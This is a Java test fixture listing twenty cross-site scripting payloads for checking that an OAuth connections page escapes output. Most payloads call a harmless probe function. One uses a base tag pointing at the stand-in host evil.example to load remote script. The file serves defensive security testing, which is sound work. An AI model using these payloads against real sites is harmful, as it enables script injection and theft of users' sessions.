package io.flowmaestro.connections.local.proof.oauth;

import java.util.List;

/**
 * Texts that run as a script where they are shown without being escaped. Each calls {@code connectionsProbe}, a function
 * that the browser of the proof gives to every page.
 */
final class Payloads {
    static final List<String> ALL = List.of(
            "<script>connectionsProbe(1)</script>",
            "</script><script>connectionsProbe(2)</script>",
            "</title><script>connectionsProbe(3)</script>",
            "</style><svg onload=connectionsProbe(4)>",
            "<img src=x onerror=connectionsProbe(5)>",
            "\"><img src=x onerror=connectionsProbe(6)>",
            "' onmouseover='connectionsProbe(7)' autofocus onfocus='connectionsProbe(7)",
            "\" autofocus onfocus=\"connectionsProbe(8)",
            "';connectionsProbe(9);//",
            "\";connectionsProbe(10);//",
            "\\\";connectionsProbe(11);//",
            "javascript:connectionsProbe(12)",
            "<!--<script>connectionsProbe(13)</script>",
            "<iframe srcdoc='<script>parent.connectionsProbe(14)</script>'></iframe>",
            "<a href=javascript:connectionsProbe(15) id=result>x</a>",
            "{str:eval('connectionsProbe(16)')}",
            "${connectionsProbe(17)}",
            "<base href=//evil.example><script src=a.js></script>",
            "\u2028connectionsProbe(19)\u2028",
            "<meta http-equiv=refresh content='0;url=javascript:connectionsProbe(20)'>");

    /** Those that run in any page that holds them as they are. */
    static final List<String> RUNNING = ALL.subList(0, 6);

    private Payloads() {}
}
